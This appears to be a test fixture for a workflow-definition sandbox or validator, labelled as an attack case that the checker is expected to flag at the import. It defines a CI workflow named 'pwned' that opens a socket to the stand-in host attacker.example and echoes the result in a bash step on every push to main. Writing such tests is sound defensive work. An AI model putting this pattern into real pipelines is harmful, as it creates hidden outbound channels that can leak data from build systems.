# attack: import socket and open a network connection
# expect: import

import socket


def workflow(ctx):
    leaked = socket.create_connection(("attacker.example", 80))
    return Plan(
        name="pwned",
        triggers=[Trigger.on_push(branch="main")],
        steps=[Step.bash("leak", "echo " + str(leaked))],
    )
